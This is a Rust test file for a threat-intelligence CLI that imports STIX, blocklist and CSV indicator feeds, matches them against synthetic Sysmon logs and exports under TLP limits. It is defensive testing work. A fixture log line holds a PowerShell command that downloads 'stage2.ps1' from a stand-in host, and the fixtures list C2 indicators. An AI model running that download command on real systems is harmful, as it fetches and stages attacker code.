//! `watchfloor intel` and `hunt --intel` as a user meets them: imports into a store
//! folder with their reports (files, http:// and https:// feeds), counts, offline
//! matching over logs, exports under TLP.

mod common;
mod tls;

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener};
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

fn watchfloor(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_watchfloor"))
        .args(args)
        .output()
        .expect("run watchfloor")
}

fn ok(out: &Output) -> (String, String) {
    let (stdout, stderr) = (
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    );
    assert!(
        out.status.success(),
        "exit {:?}\nstdout:\n{stdout}\nstderr:\n{stderr}",
        out.status.code()
    );
    (stdout, stderr)
}

/// A fresh folder for one test.
fn temp(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("watchfloor-intel-{}-{name}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

fn write(dir: &Path, name: &str, text: &str) -> String {
    let path = dir.join(name);
    std::fs::write(&path, text).unwrap();
    path.to_string_lossy().into_owned()
}

fn s(p: &Path) -> &str {
    p.to_str().unwrap()
}

/// A STIX 2.1 bundle: a domain from an identified author under TLP:GREEN with ATT&CK
/// phases, an address valid until 2031, a hash that expired in 2020, and a pattern that
/// cannot be matched value by value.
const BUNDLE: &str = r#"{
  "type": "bundle",
  "id": "bundle--0d4d0a8e-6b8a-4b2e-9d7e-6f1f9f5d8a01",
  "objects": [
    {"type": "identity", "spec_version": "2.1", "id": "identity--3b9e1d2c-1111-4c3a-9d2a-5a1f7c1b0001",
     "created": "2025-01-01T00:00:00.000Z", "modified": "2025-01-01T00:00:00.000Z",
     "name": "Partner CERT", "identity_class": "organization"},
    {"type": "indicator", "spec_version": "2.1", "id": "indicator--a1f0c8b2-2222-4c3a-9d2a-5a1f7c1b0002",
     "created": "2025-01-01T00:00:00.000Z", "modified": "2025-01-01T00:00:00.000Z",
     "created_by_ref": "identity--3b9e1d2c-1111-4c3a-9d2a-5a1f7c1b0001",
     "name": "C2 domain", "pattern_type": "stix", "pattern": "[domain-name:value = 'c2.evil.example']",
     "valid_from": "2025-01-01T00:00:00Z", "confidence": 85,
     "object_marking_refs": ["marking-definition--34098fce-860f-48ae-8e50-ebd3cc5e41da"]},
    {"type": "indicator", "spec_version": "2.1", "id": "indicator--a1f0c8b2-3333-4c3a-9d2a-5a1f7c1b0003",
     "created": "2025-01-01T00:00:00.000Z", "modified": "2025-01-01T00:00:00.000Z",
     "name": "C2 address", "pattern_type": "stix", "pattern": "[ipv4-addr:value = '203.0.113.66']",
     "valid_from": "2025-01-01T00:00:00Z", "valid_until": "2031-01-01T00:00:00Z"},
    {"type": "indicator", "spec_version": "2.1", "id": "indicator--a1f0c8b2-4444-4c3a-9d2a-5a1f7c1b0004",
     "created": "2019-01-01T00:00:00.000Z", "modified": "2019-01-01T00:00:00.000Z",
     "name": "Old dropper", "pattern_type": "stix",
     "pattern": "[file:hashes.'SHA-256' = '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08']",
     "valid_from": "2019-01-01T00:00:00Z", "valid_until": "2020-01-01T00:00:00Z"},
    {"type": "indicator", "spec_version": "2.1", "id": "indicator--a1f0c8b2-5555-4c3a-9d2a-5a1f7c1b0005",
     "created": "2025-01-01T00:00:00.000Z", "modified": "2025-01-01T00:00:00.000Z",
     "name": "Regex", "pattern_type": "stix", "pattern": "[url:value MATCHES '^http://x']",
     "valid_from": "2025-01-01T00:00:00Z"}
  ]
}"#;

const LIST: &str = "# a blocklist\n\
evil-downloads.example\n\
198.51.100.0/24 ; scanners\n\
this is not one value\n\
http://203.0.113.80/drop/stage2.ps1\n\
d41d8cd98f00b204e9800998ecf8427e # empty file\n";

fn sysmon(line: usize, fields: &str) -> String {
    format!(
        r#"{{"@timestamp":"2026-03-02T09:{:02}:{:02}.000Z","Hostname":"WS{:02}.corp.local","Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"User":"CORP\\u{line}",{fields}}}"#,
        line / 60,
        line % 60,
        line % 7
    )
}

/// A log of `lines` Sysmon events, the ones numbered in `hits` (1-based) touching an
/// indicator of [`BUNDLE`] or [`LIST`].
fn log(lines: usize, hits: &[(usize, &str)]) -> String {
    let mut text = String::new();
    for n in 1..=lines {
        let fields = hits
            .iter()
            .find(|(l, _)| *l == n)
            .map(|(_, f)| f.to_string())
            .unwrap_or_else(|| {
                format!(
                    r#""CommandLine":"C:\\Windows\\System32\\svchost.exe -k netsvcs -p {n}","DestinationIp":"10.1.{}.{}""#,
                    n / 250,
                    n % 250
                )
            });
        text.push_str(&sysmon(n, &fields));
        text.push('\n');
    }
    text
}

#[test]
fn import_stix_and_a_list_then_count_them() {
    let dir = temp("import");
    let db = dir.join("db");
    let bundle = write(&dir, "partner.json", BUNDLE);
    let list = write(&dir, "blocklist.txt", LIST);
    let out = watchfloor(&["intel", "import", &bundle, &list, "--db", s(&db)]);
    let (stdout, _) = ok(&out);
    assert!(
        stdout.contains(
            "(stix): 4 candidates: 3 taken (3 new, 0 merged), 0 skipped, 1 not matchable"
        ),
        "{stdout}"
    );
    assert!(
        stdout.contains("(plain-list): 5 candidates: 4 taken (4 new, 0 merged), 1 skipped"),
        "{stdout}"
    );
    assert!(
        stdout.contains("skipped blocklist.txt:4: more than one value on the line"),
        "the report names the place of a bad line: {stdout}"
    );
    assert!(stdout.contains("not matchable"), "{stdout}");
    assert!(stdout.contains("7 indicators in"), "{stdout}");

    let out = watchfloor(&["intel", "stats", "--db", s(&db), "--format", "json"]);
    let (stdout, _) = ok(&out);
    let v: serde_json::Value = serde_json::from_str(&stdout).unwrap();
    let stats = &v["stats"];
    assert_eq!(stats["indicators"], 7);
    assert_eq!(stats["expired"], 1, "the 2020 hash: {stats}");
    let kinds = &stats["by_kind"];
    for (kind, n) in [
        ("domain", 2),
        ("ipv4", 1),
        ("cidr", 1),
        ("url", 1),
        ("md5", 1),
        ("sha256", 1),
    ] {
        assert_eq!(kinds[kind], n, "{kind}: {kinds}");
    }
    assert_eq!(stats["attributions_by_tlp"]["green"], 1, "{stats}");
    assert_eq!(stats["attributions_by_tlp"]["amber"], 6, "{stats}");
    assert_eq!(v["by_source"]["Partner CERT"]["attributions"], 1, "{v}");
    assert_eq!(v["by_source"]["blocklist.txt"]["attributions"], 4, "{v}");
    assert!(stats["memory"]["total"].as_u64().unwrap() > 0);

    let out = watchfloor(&["intel", "stats", "--db", s(&db)]);
    let (table, _) = ok(&out);
    assert!(table.contains("7 indicators"), "{table}");
    assert!(table.contains("1 expired"), "{table}");
    assert!(table.contains("memory:"), "{table}");

    // The same list again merges into the same indicators.
    let out = watchfloor(&["intel", "import", &list, "--db", s(&db)]);
    let (stdout, _) = ok(&out);
    assert!(stdout.contains("4 taken (0 new, 4 merged)"), "{stdout}");
    assert!(stdout.contains("7 indicators in"), "{stdout}");
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn match_over_a_generated_log_finds_the_expected_lines() {
    let dir = temp("match");
    let db = dir.join("db");
    let bundle = write(&dir, "partner.json", BUNDLE);
    let list = write(&dir, "blocklist.txt", LIST);
    ok(&watchfloor(&[
        "intel",
        "import",
        &bundle,
        &list,
        "--db",
        s(&db),
    ]));
    let hits = [
        (7, r#""QueryName":"www.c2.evil.example""#),
        (
            23,
            r#""CommandLine":"powershell -c iwr http://203.0.113.80/drop/stage2.ps1 -OutFile x.ps1""#,
        ),
        (
            42,
            r#""DestinationIp":"198.51.100.201","DestinationPort":443"#,
        ),
        (
            55,
            r#""Hashes":"SHA1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709,MD5=D41D8CD98F00B204E9800998ECF8427E""#,
        ),
        // Expired in 2020: no match.
        (
            61,
            r#""Hashes":"SHA256=9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08""#,
        ),
    ];
    let logs = write(&dir, "sysmon.jsonl", &log(80, &hits));
    let out = watchfloor(&["intel", "match", &logs, "--db", s(&db), "--format", "jsonl"]);
    let (stdout, stderr) = ok(&out);
    let rows: Vec<serde_json::Value> = stdout
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let found: Vec<(u64, &str, &str)> = rows
        .iter()
        .map(|r| {
            (
                r["record"].as_u64().unwrap(),
                r["indicator"]["value"].as_str().unwrap(),
                r["indicator"]["field"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        found,
        vec![
            (7, "c2.evil.example", "QueryName"),
            (23, "http://203.0.113.80/drop/stage2.ps1", "CommandLine"),
            (42, "198.51.100.0/24", "DestinationIp"),
            (55, "d41d8cd98f00b204e9800998ecf8427e", "Hashes"),
        ],
        "{stdout}"
    );
    let c2 = &rows[0];
    assert_eq!(
        c2["rule_title"],
        "Indicator match: domain c2.evil.example (source Partner CERT, TLP:GREEN)"
    );
    assert_eq!(c2["level"], "high");
    assert_eq!(c2["host"], "WS00.corp.local");
    assert_eq!(c2["indicator"]["matched"], "www.c2.evil.example");
    assert!(
        stderr.contains("80 events in 1 files matched against 7 indicators: 4 matches"),
        "{stderr}"
    );

    let out = watchfloor(&["intel", "match", &logs, "--db", s(&db), "--format", "table"]);
    let (table, _) = ok(&out);
    assert!(table.contains("sysmon.jsonl:23"), "{table}");
    assert!(
        table.contains("Indicator match: cidr 198.51.100.0/24"),
        "{table}"
    );
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn bad_inputs_are_named_and_the_rest_is_imported() {
    let dir = temp("bad");
    let db = dir.join("db");
    let broken = write(
        &dir,
        "broken.json",
        "{\"type\": \"bundle\", \"objects\": [ {\"type\": \"indicator\", ",
    );
    let list = write(
        &dir,
        "mixed.txt",
        "evil.example\n999.1.1.1/8\nhttp://\n203.0.113.9\n",
    );
    let csv = write(
        &dir,
        "feed.csv",
        "indicator,type,tlp\nbad.example,domain,green\n10.0.0.300,ipv4,green\nfe80::1,ipv6,red\n",
    );
    let out = watchfloor(&["intel", "import", &broken, &list, &csv, "--db", s(&db)]);
    let (stdout, _) = ok(&out);
    assert!(
        stdout.contains("broken.json") && stdout.contains("invalid JSON or not STIX"),
        "{stdout}"
    );
    assert!(stdout.contains("skipped mixed.txt:2:"), "{stdout}");
    assert!(stdout.contains("skipped mixed.txt:3:"), "{stdout}");
    assert!(stdout.contains("skipped feed.csv:3:"), "{stdout}");
    assert!(stdout.contains("2 taken (2 new"), "{stdout}");
    assert!(stdout.contains("4 indicators in"), "{stdout}");

    // A missing file is an argument error, and nothing is imported.
    let out = watchfloor(&["intel", "import", s(&dir.join("nope.txt")), "--db", s(&db)]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("nope.txt"));
    // A feed that cannot be reached is named with what failed; the other inputs are
    // imported, exit 1.
    let closed = TcpListener::bind("127.0.0.1:0")
        .and_then(|l| l.local_addr())
        .unwrap();
    let unreachable = format!("https://{closed}/list.txt");
    let more = write(&dir, "more.txt", "more.example\n");
    let out = watchfloor(&["intel", "import", &unreachable, &more, "--db", s(&db)]);
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains(&unreachable) && stderr.contains("connection refused"),
        "{stderr}"
    );
    assert!(String::from_utf8_lossy(&out.stdout).contains("5 indicators in"));
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn a_feed_is_fetched_over_http_with_the_given_attribution() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = listener.local_addr().unwrap();
    let server = std::thread::spawn(move || {
        let (mut stream, _) = listener.accept().unwrap();
        let mut request = Vec::new();
        let mut buf = [0u8; 1024];
        while !request.windows(4).any(|w| w == b"\r\n\r\n") {
            let n = stream.read(&mut buf).unwrap();
            if n == 0 {
                break;
            }
            request.extend_from_slice(&buf[..n]);
        }
        let body = "# feed\nphish.example\n192.0.2.44\n";
        write!(
            stream,
            "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
            body.len()
        )
        .unwrap();
        String::from_utf8_lossy(&request).into_owned()
    });
    let dir = temp("fetch");
    let db = dir.join("db");
    let url = format!("http://{addr}/feeds/list.txt");
    let out = watchfloor(&[
        "intel",
        "import",
        &url,
        "--db",
        s(&db),
        "--source",
        "phishing-feed",
        "--tlp",
        "red",
        "--confidence",
        "90",
    ]);
    let (stdout, _) = ok(&out);
    let request = server.join().unwrap();
    assert!(
        request.starts_with("GET /feeds/list.txt HTTP/1.1"),
        "{request}"
    );
    assert!(stdout.contains("phishing-feed (plain-list)"), "{stdout}");
    assert!(stdout.contains("2 taken"), "{stdout}");
    let records = std::fs::read_to_string(db.join("indicators.jsonl")).unwrap();
    assert_eq!(records.lines().count(), 2);
    assert!(
        records.contains(r#""source":"phishing-feed","confidence":90,"tlp":"red""#),
        "{records}"
    );

    // TLP:RED never leaves, whatever the ceiling says.
    let out = watchfloor(&[
        "intel",
        "export",
        "--db",
        s(&db),
        "--format",
        "stix",
        "--tlp-max",
        "red",
    ]);
    let (bundle, stderr) = ok(&out);
    assert!(!bundle.contains("phish.example"), "{bundle}");
    assert!(stderr.contains("exported 0 indicators"), "{stderr}");
    let _ = std::fs::remove_dir_all(&dir);
}

/// A plain-HTTP server answering every request with `body`, for the rest of the test.
fn serve_text(body: &'static str) -> SocketAddr {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = listener.local_addr().unwrap();
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let mut request = Vec::new();
            let mut buf = [0u8; 1024];
            while !request.windows(4).any(|w| w == b"\r\n\r\n") {
                match stream.read(&mut buf) {
                    Ok(0) | Err(_) => break,
                    Ok(n) => request.extend_from_slice(&buf[..n]),
                }
            }
            let _ = write!(
                stream,
                "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: {}\r\n\
                 Connection: close\r\n\r\n{body}",
                body.len()
            );
        }
    });
    addr
}

#[test]
fn a_feed_is_fetched_over_https_from_a_trusted_certificate_for_its_name_only() {
    let dir = temp("https");
    let db = dir.join("db");
    let records = || std::fs::read_to_string(db.join("indicators.jsonl")).unwrap_or_default();
    let plain = serve_text("# feed\nphish.example\n192.0.2.44\n");
    let ours = tls::pki(&dir, "ca.pem", &["127.0.0.1"]);
    let elsewhere = tls::pki(&dir, "other-ca.pem", &["other.example"]);
    let url = format!("https://{}/list.txt", tls::proxy(&ours, plain));
    let wrong_name = format!("https://{}/list.txt", tls::proxy(&elsewhere, plain));

    // A CA the client was not given: untrusted, nothing imported.
    let out = watchfloor(&["intel", "import", &url, "--db", s(&db)]);
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains(&format!(
            "GET {url}: TLS: the server's certificate is not trusted"
        )),
        "{stderr}"
    );
    assert_eq!(records().lines().count(), 0);

    // A trusted CA, but a certificate for another name: refused as a name mismatch.
    let out = watchfloor(&[
        "intel",
        "import",
        &wrong_name,
        "--db",
        s(&db),
        "--ca-file",
        s(&elsewhere.ca_pem),
    ]);
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains(&wrong_name)
            && stderr.contains("name mismatch")
            && stderr.contains("not valid for 127.0.0.1 (it is for other.example)"),
        "{stderr}"
    );
    assert_eq!(records().lines().count(), 0);

    // The issuing CA given: imported.
    let out = watchfloor(&[
        "intel",
        "import",
        &url,
        "--db",
        s(&db),
        "--ca-file",
        s(&ours.ca_pem),
    ]);
    let (stdout, _) = ok(&out);
    assert!(stdout.contains("2 taken (2 new"), "{stdout}");
    assert!(records().contains("phish.example") && records().contains("192.0.2.44"));

    // A CA file that is not one is a bad argument.
    let out = watchfloor(&[
        "intel",
        "import",
        &url,
        "--db",
        s(&db),
        "--ca-file",
        &plain.to_string(),
    ]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("CA file"));
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn export_keeps_what_is_above_the_ceiling_home() {
    let dir = temp("export");
    let db = dir.join("db");
    let bundle = write(&dir, "partner.json", BUNDLE);
    let list = write(&dir, "blocklist.txt", LIST);
    ok(&watchfloor(&[
        "intel",
        "import",
        &bundle,
        &list,
        "--db",
        s(&db),
    ]));
    let file = dir.join("out.json");
    let out = watchfloor(&[
        "intel",
        "export",
        "--db",
        s(&db),
        "--format",
        "stix",
        "--tlp-max",
        "green",
        "--out",
        s(&file),
    ]);
    ok(&out);
    let text = std::fs::read_to_string(&file).unwrap();
    let v: serde_json::Value = serde_json::from_str(&text).unwrap();
    assert_eq!(v["type"], "bundle");
    assert!(
        text.contains("c2.evil.example"),
        "the TLP:GREEN domain goes"
    );
    assert!(!text.contains("evil-downloads.example"), "TLP:AMBER stays");
    let out = watchfloor(&[
        "intel",
        "export",
        "--db",
        s(&db),
        "--format",
        "misp",
        "--tlp-max",
        "amber",
    ]);
    let (event, _) = ok(&out);
    let v: serde_json::Value = serde_json::from_str(&event).unwrap();
    let attributes = v["Event"]["Attribute"].as_array().unwrap();
    assert!(attributes.len() >= 6, "{event}");
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn hunt_matches_indicators_beside_the_rules() {
    let dir = temp("hunt");
    let list = write(&dir, "blocklist.txt", LIST);
    let logs = write(
        &dir,
        "sysmon.jsonl",
        &log(
            30,
            &[(
                12,
                r#""DestinationIp":"198.51.100.7","DestinationHostname":"files.evil-downloads.example""#,
            )],
        ),
    );
    let out = watchfloor(&[
        "hunt",
        &logs,
        "--intel",
        &list,
        "--format",
        "jsonl",
        "--incidents",
    ]);
    let (stdout, stderr) = ok(&out);
    assert!(stderr.contains("4 indicators loaded"), "{stderr}");
    let rows: Vec<serde_json::Value> = stdout
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let detections: Vec<&serde_json::Value> =
        rows.iter().filter(|r| r.get("type").is_none()).collect();
    assert_eq!(detections.len(), 2, "{stdout}");
    for d in &detections {
        assert_eq!(d["record"], 12);
        assert!(
            d["rule_title"]
                .as_str()
                .unwrap()
                .starts_with("Indicator match: "),
            "{d}"
        );
        assert_eq!(d["indicator"]["sources"][0], "blocklist.txt");
    }
    let alerts: Vec<&serde_json::Value> = rows
        .iter()
        .filter(|r| r["type"] == "incident")
        .flat_map(|r| r["alerts"].as_array().unwrap())
        .collect();
    assert!(
        alerts.iter().all(|a| a["origin"] == "indicator"),
        "{stdout}"
    );
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn the_stix_examples_of_the_corpora_import() {
    let examples = common::corpora().join("threat-intel/stix2-json-schemas/examples");
    let dir = temp("corpus");
    let db = dir.join("db");
    let inputs = [
        "indicator-for-c2-ip-address.json",
        "malicious-email-indicator-with-attachment.json",
        "threat-reports/poisonivy.json",
    ];
    let paths: Vec<String> = inputs
        .iter()
        .map(|i| examples.join(i).to_string_lossy().into_owned())
        .collect();
    let mut args = vec!["intel", "import"];
    args.extend(paths.iter().map(String::as_str));
    args.extend(["--db", s(&db)]);
    let (stdout, _) = ok(&watchfloor(&args));
    assert!(
        stdout.contains("indicator-for-c2-ip-address.json (stix): 1 candidates: 1 taken"),
        "{stdout}"
    );
    let (stats, _) = ok(&watchfloor(&[
        "intel",
        "stats",
        "--db",
        s(&db),
        "--format",
        "json",
    ]));
    let v: serde_json::Value = serde_json::from_str(&stats).unwrap();
    assert!(v["stats"]["indicators"].as_u64().unwrap() >= 2, "{stats}");
    assert!(v["context_objects"].as_u64().unwrap() > 0, "{stats}");
    let _ = std::fs::remove_dir_all(&dir);
}
